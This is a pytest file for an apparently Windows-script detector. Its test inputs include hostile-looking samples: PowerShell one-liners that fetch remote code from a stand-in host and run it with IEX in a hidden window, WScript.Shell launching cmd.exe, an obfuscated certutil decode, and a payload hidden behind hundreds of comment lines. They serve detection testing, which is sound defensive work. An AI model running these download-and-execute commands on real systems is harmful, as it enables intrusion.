"""codec.scripts: text that Windows would run, and text about it."""

import pytest

from qscanner.codec.scripts import is_script

JSCRIPT = b"var s = new ActiveXObject('WScript.Shell');\ns.Run('cmd.exe /c calc');\n"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(JSCRIPT, id="jscript"),
        pytest.param(b"// lorem ipsum dolor sit amet\n" * 500 + JSCRIPT, id="behind comments"),
        pytest.param(b"/* a\nb */\n" + JSCRIPT, id="behind a block"),
        pytest.param(
            b'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -enc AAA"\n', id="vbscript"
        ),
        pytest.param(
            b"$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://a.example'))",
            id="powershell",
        ),
        pytest.param(
            b"powershell -nop -w hidden IEX(New-Object Net.WebClient).DownloadString('x')",
            id="one line",
        ),
        pytest.param(b"#@~^AAAAAA==abc", id="encoded"),
        pytest.param(
            b"certutil -decode a b\r\n".replace(b"cert", b"@cert") + b"cmd /c b", id="batch"
        ),
    ],
)
def test_scripts(text: bytes) -> None:
    """Code that talks to the system."""
    assert is_script(text)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            b"Malware uses new ActiveXObject('WScript.Shell') and powershell to start cmd.exe.\n",
            id="advisory",
        ),
        pytest.param(
            b"# Notes\n\nThe powershell command IEX (x) is run by cmd.exe /c\n", id="markdown"
        ),
        pytest.param(b"var a = 1;\nfunction f() { return a; }\n", id="javascript"),
        pytest.param(b"import os\nos.system('cmd.exe')\n", id="python"),
        pytest.param(
            b"diff --git a/x b/x\n+ var s = new ActiveXObject('WScript.Shell')\n", id="patch"
        ),
        pytest.param(b"", id="empty"),
    ],
)
def test_other_text(text: bytes) -> None:
    """What people write about scripts, and scripts that are none for Windows."""
    assert not is_script(text)
